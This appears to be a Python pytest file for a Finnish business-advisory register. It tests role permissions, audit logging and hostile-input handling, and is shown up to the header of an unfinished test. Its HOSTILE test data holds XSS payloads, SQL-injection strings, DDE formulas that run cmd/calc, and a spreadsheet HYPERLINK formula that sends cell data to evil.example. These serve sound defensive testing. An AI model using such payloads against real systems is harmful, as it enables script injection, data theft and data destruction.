"""Security (issue 6) on SQLite and PostgreSQL: who may do what, hostile input, passwords, sign-in.

* A role × action matrix over every write service and the read services: each action a role
  may do succeeds (and, if it writes, is audited), every other raises Forbidden with its message
  key and writes nothing. Advisors edit only in their home towns; project managers only their
  own projects.
* Hostile text (markup, formulas, SQL, emoji, Finnish letters) is stored and read back exactly;
  1 MB strings and control characters are refused with their message key and nothing written.
* The password policy, argon2id hashes, the lock after five failures, and server-side sessions:
  start, resume, touch, end, idle expiry, and ending at once when a user is disabled or given
  a new password.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import re
from collections.abc import Callable
from dataclasses import dataclass
from types import SimpleNamespace
from typing import Any

import pytest
from argon2 import PasswordHasher
from argon2.profiles import RFC_9106_LOW_MEMORY
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from db.enums import AuditAction, Channel, NeedStatus, PartnerKind, ProjectKind, Role, Severity
from db.models import (
    AuditEvent,
    Base,
    Company,
    ContactPerson,
    Interaction,
    Need,
    Partner,
    User,
    UserSession,
)
from services import (
    audit,
    companies,
    contact_persons,
    contacts,
    dashboards,
    duplicates,
    engagement,
    exports,
    follow_ups,
    importing,
    interactions,
    leadership,
    need_fit,
    needs,
    participations,
    privacy,
    profile,
    projects,
    sessions,
    settings,
    users,
)
from services.auth import (
    LOCK_DURATION,
    MAX_FAILED_LOGINS,
    CurrentUser,
    authenticate,
    verify_password,
)
from services.companies import CompanyInput
from services.contact_persons import ContactPersonInput
from services.contacts import ContactInput, FollowUpInput, NeedInput
from services.errors import AccountLocked, Forbidden, InvalidCredentials, ValidationError
from services.i18n import translate
from services.participations import ActivityInput
from services.passwords import MAX_LENGTH, MIN_LENGTH, check_password
from services.projects import ProjectInput
from services.users import UserInput
from tests import factories as make

TODAY = dt.date(2026, 11, 22)
STRONG_PASSWORD = "Kesäpäivä-Tammela-42"
OTHER_STRONG_PASSWORD = "Syysmyrsky-Jokioinen-77"


# --- The world -------------------------------------------------------------------------------


def build_world(session: Session) -> SimpleNamespace:
    """Three towns, one user of each role (and a second advisor and project manager), companies
    inside and outside the advisor's home towns, with people, needs, follow-ups, projects."""
    w = SimpleNamespace()
    w.hame = make.region(session, code="05", name="Kanta-Häme")
    w.varsinais = make.region(session, code="02", name="Varsinais-Suomi")
    w.forssa = make.town(session, "Forssa", region=w.hame)
    w.tammela = make.town(session, "Tammela", region=w.hame, regional=False)
    w.loimaa = make.town(session, "Loimaa", region=w.varsinais)
    w.category = make.category(session, "funding")
    w.partner = Partner(name="Finnvera", kind=PartnerKind.FINNVERA, categories=[w.category])
    session.add(w.partner)
    session.flush()

    w.advisor_row = make.user(
        session, role=Role.ADVISOR, full_name="Aino Neuvoja", towns=[w.forssa, w.tammela]
    )
    w.other_advisor_row = make.user(
        session, role=Role.ADVISOR, full_name="Bertta Loimaalainen", towns=[w.loimaa]
    )
    w.pm_row = make.user(session, role=Role.PROJECT_MANAGER, full_name="Daniel Hanke")
    w.other_pm_row = make.user(session, role=Role.PROJECT_MANAGER, full_name="Erkki Toinen")
    w.leader_row = make.user(session, role=Role.LEADERSHIP, full_name="Eeva Johto")
    w.admin_row = make.user(session, role=Role.ADMIN, full_name="Frans Ylläpito")
    w.rows = {
        Role.ADVISOR: w.advisor_row,
        Role.PROJECT_MANAGER: w.pm_row,
        Role.LEADERSHIP: w.leader_row,
        Role.ADMIN: w.admin_row,
    }
    w.users = {role: make.signed_in(session, row) for role, row in w.rows.items()}
    w.admin = w.users[Role.ADMIN]
    w.advisor = w.users[Role.ADVISOR]

    w.home = make.company(
        session,
        "Kotikylän Konepaja Oy",
        town=w.forssa,
        business_id=make.valid_business_id(7_100_000),
    )
    w.away = make.company(
        session, "Loimaan Leipomo Oy", town=w.loimaa, business_id=make.valid_business_id(7_200_000)
    )
    w.twin_a = make.company(
        session, "Kaksoset Oy", town=w.forssa, business_id=make.valid_business_id(7_300_000)
    )
    w.twin_b = make.company(
        session, "KAKSOSET OY", town=w.forssa, business_id=make.valid_business_id(7_400_000)
    )
    w.home_person = _person(session, w.home, "Liisa", "Leipuri", "liisa@konepaja.fi")
    w.away_person = _person(session, w.away, "Kalle", "Kaura", "kalle@leipomo.fi")
    w.stale_person = _person(
        session,
        w.away,
        "Vanha",
        "Yhteys",
        None,
        created_at=dt.datetime(2015, 1, 1, tzinfo=dt.UTC),
    )
    w.home_need = make.need(
        session, company=w.home, category=w.category, identified_on=TODAY - dt.timedelta(days=9)
    )
    w.away_need = make.need(
        session, company=w.away, category=w.category, identified_on=TODAY - dt.timedelta(days=9)
    )
    due = TODAY + dt.timedelta(days=3)
    w.home_follow_up = make.follow_up(
        session, company=w.home, owner=w.other_advisor_row, due_on=due
    )
    w.away_follow_up = make.follow_up(
        session, company=w.away, owner=w.other_advisor_row, due_on=due
    )
    # A follow-up of each role's own, in a company outside the advisor's home towns.
    w.own_follow_ups = {
        role: make.follow_up(session, company=w.away, owner=row, due_on=due)
        for role, row in w.rows.items()
    }
    period = {"starts_on": dt.date(2026, 1, 1), "ends_on": dt.date(2027, 12, 31)}
    w.own_project = make.project(
        session,
        "Oma verkostohanke",
        towns=[w.forssa, w.loimaa],
        categories=[w.category],
        manager=w.pm_row,
        **period,
    )
    w.other_project = make.project(
        session,
        "Toisen hanke",
        towns=[w.forssa],
        categories=[w.category],
        manager=w.other_pm_row,
        **period,
    )
    w.own_participation = make.participation(
        session, project=w.own_project, company=w.home, occurred_on=TODAY
    )
    w.other_participation = make.participation(
        session, project=w.other_project, company=w.home, occurred_on=TODAY
    )
    make.interaction(
        session, company=w.home, advisor=w.other_advisor_row, occurred_on=TODAY, summary="Käynti"
    )
    return w


def _person(
    session: Session, company: Company, first: str, last: str, email: str | None, **extra: Any
) -> ContactPerson:
    row = ContactPerson(
        company_id=company.id, first_name=first, last_name=last, email=email, **extra
    )
    session.add(row)
    session.flush()
    return row


@pytest.fixture
def world(session: Session) -> SimpleNamespace:
    return build_world(session)


def table_counts(session: Session) -> dict[str, int]:
    """Rows in every table of the model, after writing out whatever the session holds pending.

    A count over a Core table does not autoflush, so flush first: a change a service left in
    the session counts as written.
    """
    session.flush()
    return {
        table.name: session.scalar(select(func.count()).select_from(table)) or 0
        for table in Base.metadata.sorted_tables
    }


def audit_count(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(AuditEvent)) or 0


# --- The role × action matrix ----------------------------------------------------------------

ALL = frozenset(Role)
ADMIN = frozenset({Role.ADMIN})
ADVISOR_ADMIN = frozenset({Role.ADVISOR, Role.ADMIN})
LOGGERS = frozenset({Role.ADVISOR, Role.PROJECT_MANAGER, Role.ADMIN})
PROJECT_EDITORS = frozenset({Role.PROJECT_MANAGER, Role.ADMIN})
EXPORTERS = frozenset({Role.PROJECT_MANAGER, Role.LEADERSHIP, Role.ADMIN})
LEADERS = frozenset({Role.LEADERSHIP, Role.ADMIN})

W = SimpleNamespace
Call = Callable[[Session, W, CurrentUser], Any]


def town_key(role: Role) -> str:
    """Advisors are refused for the town; roles that may not edit at all, for the role."""
    return "error.forbidden_town" if role == Role.ADVISOR else "error.forbidden"


@dataclass(frozen=True)
class Case:
    call: Call
    allowed: frozenset[Role]
    writes: bool = False
    key: str | Callable[[Role], str] = "error.forbidden"

    def refusal_key(self, role: Role) -> str:
        return self.key(role) if callable(self.key) else self.key


def company_input(w: W, town: Any, number: int, name: str = "Uusi Yritys Oy") -> CompanyInput:
    return CompanyInput(
        business_id=make.valid_business_id(number), name=name, town_id=town.id, staff_count=3
    )


def edited(w: W, company: Company, *, town: Any = None) -> CompanyInput:
    return CompanyInput(
        business_id=company.business_id,
        name=company.name + " (muutettu)",
        town_id=(town or company.town).id,
        staff_count=12,
    )


def contact(w: W, company: Company, **extra: Any) -> ContactInput:
    values: dict[str, Any] = {
        "occurred_on": TODAY,
        "channel": Channel.PHONE,
        "summary": "Soitettiin ja sovittiin tapaaminen.",
        "company_id": company.id,
    }
    values.update(extra)
    return ContactInput(**values)


def project_input(w: W, project: Any, *, name: str) -> ProjectInput:
    return ProjectInput(
        name=name,
        kind=ProjectKind.REGIONAL_NETWORK,
        starts_on=project.starts_on,
        ends_on=project.ends_on,
        town_ids=(w.forssa.id,),
        category_ids=(w.category.id,),
        manager_id=project.manager_id,
    )


def activity(project: Any) -> ActivityInput:
    return ActivityInput(project_id=project.id, activity_type="workshop", occurred_on=TODAY)


def import_companies(s: Session, w: W, u: CurrentUser) -> Any:
    table = importing.Table(
        headers=["Y-tunnus", "Nimi", "Kotikunta"],
        rows=[{"Y-tunnus": make.valid_business_id(7_600_000), "Nimi": "Tuotu Oy",
               "Kotikunta": "Forssa"}],
    )  # fmt: skip
    mapping = importing.auto_mapping("companies", table.headers)
    checked = importing.check_rows(s, w.admin, "companies", table, mapping)
    return importing.import_rows(s, u, checked)


def check_import(s: Session, w: W, u: CurrentUser) -> Any:
    table = importing.Table(headers=["Y-tunnus", "Nimi", "Kunta"], rows=[])
    return importing.check_rows(
        s, u, "companies", table, importing.auto_mapping("companies", table.headers)
    )


def new_user(s: Session, w: W, u: CurrentUser) -> Any:
    data = UserInput(
        username="uusi.kayttaja",
        full_name="Uusi Käyttäjä",
        email="uusi.kayttaja@example.fi",
        role=Role.LEADERSHIP,
    )
    return users.create_user(s, u, data, password=STRONG_PASSWORD)


def edit_user(s: Session, w: W, u: CurrentUser) -> Any:
    row = w.other_advisor_row
    data = UserInput(
        username=row.username,
        full_name="Bertta Muutettu",
        email=row.email,
        role=Role.ADVISOR,
        town_ids=(w.loimaa.id, w.tammela.id),
    )
    return users.update_user(s, u, row.id, data)


FILTERS = engagement.EngagementFilters(start=dt.date(2026, 1, 1), end=TODAY)

CASES: dict[str, Case] = {
    # Companies: advisors in their home towns, administrators anywhere.
    "create_company_home": Case(
        lambda s, w, u: companies.create_company(s, u, company_input(w, w.forssa, 7_500_000)),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "create_company_away": Case(
        lambda s, w, u: companies.create_company(s, u, company_input(w, w.loimaa, 7_500_000)),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "update_company_home": Case(
        lambda s, w, u: companies.update_company(s, u, w.home.id, edited(w, w.home)),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "update_company_away": Case(
        lambda s, w, u: companies.update_company(s, u, w.away.id, edited(w, w.away)),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "move_company_out_of_home_towns": Case(
        lambda s, w, u: companies.update_company(s, u, w.home.id, edited(w, w.home, town=w.loimaa)),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    # Contact persons follow their company's town.
    "add_contact_person_home": Case(
        lambda s, w, u: contact_persons.add_contact_person(
            s, u, w.home.id, ContactPersonInput("Uusi", "Henkilö")
        ),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "add_contact_person_away": Case(
        lambda s, w, u: contact_persons.add_contact_person(
            s, u, w.away.id, ContactPersonInput("Uusi", "Henkilö")
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "update_contact_person_home": Case(
        lambda s, w, u: contact_persons.update_contact_person(
            s, u, w.home_person.id, ContactPersonInput("Liisa", "Uusinimi")
        ),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "update_contact_person_away": Case(
        lambda s, w, u: contact_persons.update_contact_person(
            s, u, w.away_person.id, ContactPersonInput("Kalle", "Uusinimi")
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "remove_contact_person_home": Case(
        lambda s, w, u: contact_persons.remove_contact_person(s, u, w.home_person.id),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "remove_contact_person_away": Case(
        lambda s, w, u: contact_persons.remove_contact_person(s, u, w.away_person.id),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    # Logging a contact: any company, for the roles that log contacts; a new company or person
    # with it only where the user may edit.
    "log_contact_home": Case(
        lambda s, w, u: contacts.log_contact(s, u, contact(w, w.home), today=TODAY),
        LOGGERS,
        writes=True,
    ),
    "log_contact_away": Case(
        lambda s, w, u: contacts.log_contact(
            s,
            u,
            contact(
                w,
                w.away,
                needs=(NeedInput(w.category.id, Severity.RED, "Rahoitus"),),
                follow_up=FollowUpInput("Soita takaisin"),
            ),
            today=TODAY,
        ),
        LOGGERS,
        writes=True,
    ),
    "log_contact_new_company_home": Case(
        lambda s, w, u: contacts.log_contact(
            s,
            u,
            contact(w, w.home, company_id=None, new_company=company_input(w, w.forssa, 7_700_000)),
            today=TODAY,
        ),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "log_contact_new_company_away": Case(
        lambda s, w, u: contacts.log_contact(
            s,
            u,
            contact(w, w.away, company_id=None, new_company=company_input(w, w.loimaa, 7_700_000)),
            today=TODAY,
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "log_contact_new_person_away": Case(
        lambda s, w, u: contacts.log_contact(
            s,
            u,
            contact(w, w.away, new_contact_person=ContactPersonInput("Uusi", "Henkilö")),
            today=TODAY,
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    # Needs: status by the company's editors; referring by those who log contacts (advisors
    # only in their home towns).
    "change_need_status_home": Case(
        lambda s, w, u: needs.change_need_status(
            s, u, w.home_need.id, status=NeedStatus.IN_PROGRESS, today=TODAY
        ),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "change_need_status_away": Case(
        lambda s, w, u: needs.change_need_status(
            s, u, w.away_need.id, status=NeedStatus.IN_PROGRESS, today=TODAY
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "refer_need_home": Case(
        lambda s, w, u: needs.refer_need(
            s, u, w.home_need.id, consent=True, today=TODAY, partner_id=w.partner.id
        ),
        LOGGERS,
        writes=True,
    ),
    "refer_need_away": Case(
        lambda s, w, u: needs.refer_need(
            s, u, w.away_need.id, consent=True, today=TODAY, partner_id=w.partner.id
        ),
        frozenset({Role.PROJECT_MANAGER, Role.ADMIN}),
        writes=True,
        key=town_key,
    ),
    # Follow-ups: one's own anywhere, others' where one may edit the company.
    "complete_follow_up_home": Case(
        lambda s, w, u: follow_ups.complete_follow_up(s, u, w.home_follow_up.id, today=TODAY),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "complete_follow_up_away": Case(
        lambda s, w, u: follow_ups.complete_follow_up(s, u, w.away_follow_up.id, today=TODAY),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "cancel_follow_up_away": Case(
        lambda s, w, u: follow_ups.cancel_follow_up(s, u, w.away_follow_up.id),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "reschedule_follow_up_home": Case(
        lambda s, w, u: follow_ups.reschedule_follow_up(
            s, u, w.home_follow_up.id, due_on=TODAY + dt.timedelta(days=30), today=TODAY
        ),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "reschedule_follow_up_away": Case(
        lambda s, w, u: follow_ups.reschedule_follow_up(
            s, u, w.away_follow_up.id, due_on=TODAY + dt.timedelta(days=30), today=TODAY
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "reassign_follow_up_home": Case(
        lambda s, w, u: follow_ups.reassign_follow_up(
            s, u, w.home_follow_up.id, owner_id=w.advisor_row.id
        ),
        ADVISOR_ADMIN,
        writes=True,
        key=town_key,
    ),
    "reassign_follow_up_away": Case(
        lambda s, w, u: follow_ups.reassign_follow_up(
            s, u, w.away_follow_up.id, owner_id=w.advisor_row.id
        ),
        ADMIN,
        writes=True,
        key=town_key,
    ),
    "complete_own_follow_up_away": Case(
        lambda s, w, u: follow_ups.complete_follow_up(
            s, u, w.own_follow_ups[u.role].id, today=TODAY
        ),
        ALL,
        writes=True,
    ),
    # Projects: administrators create; project managers edit their own.
    "create_project": Case(
        lambda s, w, u: projects.create_project(
            s, u, project_input(w, w.own_project, name="Aivan uusi hanke")
        ),
        ADMIN,
        writes=True,
    ),
    "update_own_project": Case(
        lambda s, w, u: projects.update_project(
            s, u, w.own_project.id, project_input(w, w.own_project, name="Uusi nimi")
        ),
        PROJECT_EDITORS,
        writes=True,
        key="error.forbidden_project",
    ),
    "update_other_project": Case(
        lambda s, w, u: projects.update_project(
            s, u, w.other_project.id, project_input(w, w.other_project, name="Uusi nimi")
        ),
        ADMIN,
        writes=True,
        key="error.forbidden_project",
    ),
    "record_participation_own_project": Case(
        lambda s, w, u: participations.record_participation(
            s, u, activity(w.own_project), company_id=w.away.id
        ),
        PROJECT_EDITORS,
        writes=True,
        key="error.forbidden_project",
    ),
    "record_participation_other_project": Case(
        lambda s, w, u: participations.record_participation(
            s, u, activity(w.other_project), company_id=w.away.id
        ),
        ADMIN,
        writes=True,
        key="error.forbidden_project",
    ),
    "record_attendance_own_project": Case(
        lambda s, w, u: participations.record_attendance(
            s, u, activity(w.own_project), business_ids_text=w.away.business_id
        ),
        PROJECT_EDITORS,
        writes=True,
        key="error.forbidden_project",
    ),
    "add_feedback_own_project": Case(
        lambda s, w, u: participations.add_feedback(
            s, u, w.own_participation.id, feedback_score=4, need_met="yes", today=TODAY
        ),
        PROJECT_EDITORS,
        writes=True,
        key="error.forbidden_project",
    ),
    "add_feedback_other_project": Case(
        lambda s, w, u: participations.add_feedback(
            s, u, w.other_participation.id, feedback_score=4, need_met="yes", today=TODAY
        ),
        ADMIN,
        writes=True,
        key="error.forbidden_project",
    ),
    # Administration.
    "update_settings": Case(
        lambda s, w, u: settings.update_settings(s, u, {"retention.years": 3}),
        ADMIN,
        writes=True,
    ),
    "create_user": Case(new_user, ADMIN, writes=True),
    "update_user": Case(edit_user, ADMIN, writes=True),
    "disable_user": Case(
        lambda s, w, u: users.set_user_active(s, u, w.other_advisor_row.id, active=False),
        ADMIN,
        writes=True,
    ),
    "reset_password": Case(
        lambda s, w, u: users.reset_password(
            s, u, w.other_advisor_row.id, password=OTHER_STRONG_PASSWORD
        ),
        ADMIN,
        writes=True,
    ),
    "list_users": Case(lambda s, w, u: users.list_users(s, u), ADMIN),
    "user_details": Case(lambda s, w, u: users.user_details(s, u, w.pm_row.id), ADMIN),
    "set_own_language": Case(lambda s, w, u: users.set_language(s, u, "en"), ALL, writes=True),
    "list_events": Case(lambda s, w, u: audit.list_events(s, u), ADMIN),
    "company_history_home": Case(
        lambda s, w, u: audit.company_history(s, u, w.home.id),
        frozenset({Role.ADVISOR, Role.LEADERSHIP, Role.ADMIN}),
        key=town_key,
    ),
    "company_history_away": Case(
        lambda s, w, u: audit.company_history(s, u, w.away.id), LEADERS, key=town_key
    ),
    # Data protection.
    "export_person": Case(
        lambda s, w, u: privacy.export_person(s, u, w.home_person.id), ADMIN, writes=True
    ),
    "erase_person": Case(
        lambda s, w, u: privacy.erase_person(s, u, w.away_person.id), ADMIN, writes=True
    ),
    "find_contact_persons": Case(
        lambda s, w, u: privacy.find_contact_persons(s, u, query="Liisa"), ADMIN
    ),
    "stale_contact_persons": Case(
        lambda s, w, u: privacy.stale_contact_persons(s, u, today=TODAY), ADMIN
    ),
    "erase_stale_contact_persons": Case(
        lambda s, w, u: privacy.erase_stale_contact_persons(s, u, today=TODAY),
        ADMIN,
        writes=True,
    ),
    # Import, export, duplicates.
    "check_import": Case(check_import, ADMIN),
    "import_rows": Case(import_companies, ADMIN, writes=True),
    "full_export_zip": Case(lambda s, w, u: exports.full_export_zip(s, u), ADMIN, writes=True),
    "likely_duplicates": Case(lambda s, w, u: duplicates.likely_duplicates(s, u), ADMIN),
    "merge_companies": Case(
        lambda s, w, u: duplicates.merge_companies(
            s, u, keep_id=w.twin_a.id, remove_id=w.twin_b.id
        ),
        ADMIN,
        writes=True,
    ),
    "export_companies": Case(lambda s, w, u: companies.export_companies(s, u), EXPORTERS),
    "download_company_list": Case(
        lambda s, w, u: companies.search_companies(s, u, page_size=None), EXPORTERS
    ),
    "download_needs": Case(lambda s, w, u: needs.list_needs(s, u, page_size=None), EXPORTERS),
    "download_follow_ups": Case(
        lambda s, w, u: follow_ups.list_follow_ups(s, u, today=TODAY, page_size=None), EXPORTERS
    ),
    "download_interactions": Case(
        lambda s, w, u: interactions.list_interactions(s, u, page_size=None), EXPORTERS
    ),
    "download_projects": Case(
        lambda s, w, u: projects.list_projects(s, u, page_size=None), EXPORTERS
    ),
    # Reading the register: everyone, in every town.
    "search_companies": Case(lambda s, w, u: companies.search_companies(s, u), ALL),
    "company_facts_away": Case(lambda s, w, u: profile.company_facts(s, u, w.away.id), ALL),
    "timeline_away": Case(lambda s, w, u: profile.timeline(s, u, w.away.id), ALL),
    "open_needs_away": Case(lambda s, w, u: profile.open_needs(s, u, w.away.id), ALL),
    "who_else_away": Case(
        lambda s, w, u: profile.who_else_in_contact(s, u, w.away.id, today=TODAY), ALL
    ),
    "contact_persons_away": Case(
        lambda s, w, u: contact_persons.list_contact_persons(s, u, w.away.id), ALL
    ),
    "list_needs": Case(lambda s, w, u: needs.list_needs(s, u), ALL),
    "suggestions_for_need": Case(
        lambda s, w, u: needs.suggestions_for_need(s, u, w.away_need.id, today=TODAY), ALL
    ),
    "list_follow_ups": Case(lambda s, w, u: follow_ups.list_follow_ups(s, u, today=TODAY), ALL),
    "list_interactions": Case(lambda s, w, u: interactions.list_interactions(s, u), ALL),
    "list_projects": Case(lambda s, w, u: projects.list_projects(s, u), ALL),
    "project_details": Case(
        lambda s, w, u: projects.project_details(s, u, w.other_project.id), ALL
    ),
    "need_fit": Case(lambda s, w, u: need_fit.need_fit(s, u, today=TODAY), ALL),
    # Dashboards.
    "engagement_key_figures": Case(
        lambda s, w, u: engagement.key_figures(s, u, FILTERS), EXPORTERS
    ),
    "engagement_by_project": Case(
        lambda s, w, u: dashboards.engagement_by_project(s, u, start=FILTERS.start, end=TODAY),
        EXPORTERS,
    ),
    "overdue_ageing": Case(lambda s, w, u: leadership.overdue_ageing(s, u, today=TODAY), LEADERS),
    "response_times": Case(
        lambda s, w, u: leadership.response_times(s, u, start=FILTERS.start, end=TODAY), LEADERS
    ),
    "follow_up_status_by_town": Case(
        lambda s, w, u: dashboards.follow_up_status_by_town(s, u, today=TODAY), LEADERS
    ),
}


@pytest.mark.parametrize("role", list(Role), ids=str)
@pytest.mark.parametrize("action", list(CASES))
def test_role_action_matrix(session: Session, world: W, action: str, role: Role) -> None:
    case = CASES[action]
    user = world.users[role]
    before = table_counts(session)
    if role in case.allowed:
        case.call(session, world, user)
        session.flush()
        after = table_counts(session)
        if case.writes:
            # Every allowed write is recorded in the audit trail, as this user's.
            assert after["audit_events"] > before["audit_events"]
            actors = set(
                session.scalars(
                    select(AuditEvent.user_id)
                    .order_by(AuditEvent.id.desc())
                    .limit(after["audit_events"] - before["audit_events"])
                )
            )
            assert actors == {user.id}
        else:
            assert after == before
    else:
        with pytest.raises(Forbidden) as caught:
            case.call(session, world, user)
        assert caught.value.key == case.refusal_key(role)
        assert table_counts(session) == before


def test_the_matrix_covers_every_role_rule() -> None:
    """Each kind of rule has both outcomes in the matrix: nothing is allowed to everyone by
    accident, and every role is refused something."""
    for role in Role:
        if role != Role.ADMIN:
            assert any(role not in case.allowed for case in CASES.values())
        assert any(role in case.allowed for case in CASES.values())
    assert all(Role.ADMIN in case.allowed for case in CASES.values())


@pytest.mark.parametrize(
    "key", ["error.forbidden", "error.forbidden_town", "error.forbidden_project"]
)
def test_refusals_have_a_clear_message_in_both_languages(key: str) -> None:
    for language in ("fi", "en"):
        assert translate(key, language) != key


def test_advisor_sees_email_and_phone_only_in_home_towns(session: Session, world: W) -> None:
    world.away_person.phone = "+358 40 111 2222"
    world.home_person.phone = "+358 40 333 4444"
    session.flush()
    away = contact_persons.list_contact_persons(session, world.advisor, world.away.id)
    home = contact_persons.list_contact_persons(session, world.advisor, world.home.id)
    assert {(p["email"], p["phone"]) for p in away} == {(None, None)}
    assert home[0]["email"] == "liisa@konepaja.fi"
    assert home[0]["phone"] == "+358 40 333 4444"
    leader = contact_persons.list_contact_persons(
        session, world.users[Role.LEADERSHIP], world.away.id
    )
    assert "kalle@leipomo.fi" in {p["email"] for p in leader}


def test_company_facts_say_whether_the_viewer_may_edit(session: Session, world: W) -> None:
    expected = {
        Role.ADVISOR: (True, False),
        Role.PROJECT_MANAGER: (False, False),
        Role.LEADERSHIP: (False, False),
        Role.ADMIN: (True, True),
    }
    for role, (home, away) in expected.items():
        user = world.users[role]
        assert profile.company_facts(session, user, world.home.id)["can_edit"] is home
        assert profile.company_facts(session, user, world.away.id)["can_edit"] is away


def test_a_changed_role_or_home_town_takes_effect_at_once(session: Session, world: W) -> None:
    """The services read the user afresh on every request: a removed home town is refused."""
    token = sessions.start_session(session, world.advisor)
    users.update_user(
        session,
        world.admin,
        world.advisor_row.id,
        UserInput(
            username=world.advisor_row.username,
            full_name=world.advisor_row.full_name,
            email=world.advisor_row.email,
            role=Role.ADVISOR,
            town_ids=(world.loimaa.id,),
        ),
    )
    resumed = sessions.resume_session(session, token)
    assert resumed is not None
    assert resumed.town_ids == {world.loimaa.id}
    with pytest.raises(Forbidden):
        companies.update_company(session, resumed, world.home.id, edited(world, world.home))
    companies.update_company(session, resumed, world.away.id, edited(world, world.away))


# --- Hostile input ---------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img_onerror": '<img src=x onerror="alert(document.cookie)">',
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"Klikkaa")',
    "plus_formula": "+cmd|' /C calc'!A0",
    "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql_drop": "'; DROP TABLE companies; --",
    "sql_or": "x' OR '1'='1",
    "like_wildcards": "100 % _alennus_ [a-z]* Oy",
    "template": "{{7*7}} ${7*7} %s %n {0}",
    "emoji": "Kahvila ☕ & Leipomo 🥐👩‍🍳 Oy",
    "finnish": "Äänekosken Öljy & Åbo Snickeri Ab – ”Sisu” ’n’ ääkköset",
    "bidi": "Yritys \u202eyO tnecsniA\u202c",
    "zero_width": "Nolla\u200bleveys\u200d Oy",
    "backslashes": "C:\\Users\\Public\\x00 \\n ' \" `",
    "markdown": "**lihava** [linkki](javascript:alert(1)) # otsikko",
}
HUGE = "x" * 1_000_000
CONTROL = {
    "nul": "Nimi\x00Oy",
    "bell": "Nimi\x07Oy",
    "escape": "Nimi\x1b[31mOy",
    "delete": "Nimi\x7fOy",
    "vertical_tab": "Nimi\x0bOy",
    "unit_separator": "Nimi\x1fOy",
}


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_company_names_are_stored_and_read_back_exactly(
    session: Session, world: W, text: str
) -> None:
    company = companies.create_company(session, world.advisor, _company_named(world, text))
    session.expire_all()
    stored = session.scalar(select(Company.name).where(Company.id == company.id))
    assert stored == text
    assert profile.company_facts(session, world.advisor, company.id)["name"] == text
    listed = companies.search_companies(session, world.advisor, query=text, page_size=100)
    assert [row["name"] for row in listed.rows] == [text]
    assert companies.export_companies(session, world.admin, query=text)[0]["name"] == text
    # The other tables are all still there.
    assert session.scalar(select(func.count()).select_from(Company)) == 5
    assert session.scalar(select(func.count()).select_from(User)) == 6


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_text_in_people_contacts_and_needs_is_kept_exactly(
    session: Session, world: W, text: str
) -> None:
    person = contact_persons.add_contact_person(
        session,
        world.advisor,
        world.home.id,
        ContactPersonInput(first_name=text[:100], last_name=text[-100:], title=text[:120]),
    )
    logged = contacts.log_contact(
        session,
        world.advisor,
        ContactInput(
            occurred_on=TODAY,
            channel=Channel.VISIT,
            summary=f"{text}\nToinen rivi\tsarkaimella",
            company_id=world.home.id,
            contact_person_id=person.id,
            needs=(NeedInput(world.category.id, Severity.YELLOW, text),),
            follow_up=FollowUpInput(text),
        ),
        today=TODAY,
    )
    session.expire_all()
    stored = session.get(ContactPerson, person.id)
    assert (stored.first_name, stored.last_name, stored.title) == (text[:100], text[-100:],
                                                                   text[:120])  # fmt: skip
    people = contact_persons.list_contact_persons(session, world.advisor, world.home.id)
    assert {(p["first_name"], p["last_name"]) for p in people} >= {(text[:100], text[-100:])}
    interaction = session.get(Interaction, logged.interaction_id)
    assert interaction.summary == f"{text}\nToinen rivi\tsarkaimella"
    assert session.get(Need, logged.need_ids[0]).description == text
    timeline = profile.timeline(session, world.advisor, world.home.id).rows
    wanted = {
        ("interaction", logged.interaction_id),
        ("need", logged.need_ids[0]),
        ("follow_up", logged.follow_up_id),
    }
    texts = {
        row["kind"]: row["text"] for row in timeline if (row["kind"], row["item_id"]) in wanted
    }
    assert texts == {
        "interaction": f"{text}\nToinen rivi\tsarkaimella",
        "need": text,
        "follow_up": text,
    }
    listed = needs.list_needs(session, world.advisor, page_size=100).rows
    assert text in {row["description"] for row in listed}


def test_like_wildcards_in_a_search_match_only_themselves(session: Session, world: W) -> None:
    wild = companies.create_company(
        session, world.advisor, _company_named(world, HOSTILE["like_wildcards"])
    )
    for query in ("%", "_", "% _", "[a-z]*"):
        found = companies.search_companies(session, world.advisor, query=query, page_size=100)
        assert [row["id"] for row in found.rows] == [wild.id], query


def refused_whole(session: Session, call: Callable[[], object], key: str, field: str) -> None:
    before = table_counts(session)
    with pytest.raises(ValidationError) as caught:
        call()
    assert caught.value.key == key
    assert caught.value.field == field
    assert translate(key, "fi") != key
    assert table_counts(session) == before


def _company_named(w: W, name: str) -> CompanyInput:
    return CompanyInput(make.valid_business_id(7_800_000), name, w.forssa.id, staff_count=1)


def _log(w: W, **extra: Any) -> ContactInput:
    values: dict[str, Any] = {
        "occurred_on": TODAY,
        "channel": Channel.VISIT,
        "summary": "Käynti",
        "company_id": w.home.id,
    }
    values.update(extra)
    return ContactInput(**values)


def test_a_one_megabyte_string_is_refused_everywhere_and_nothing_is_written(
    session: Session, world: W
) -> None:
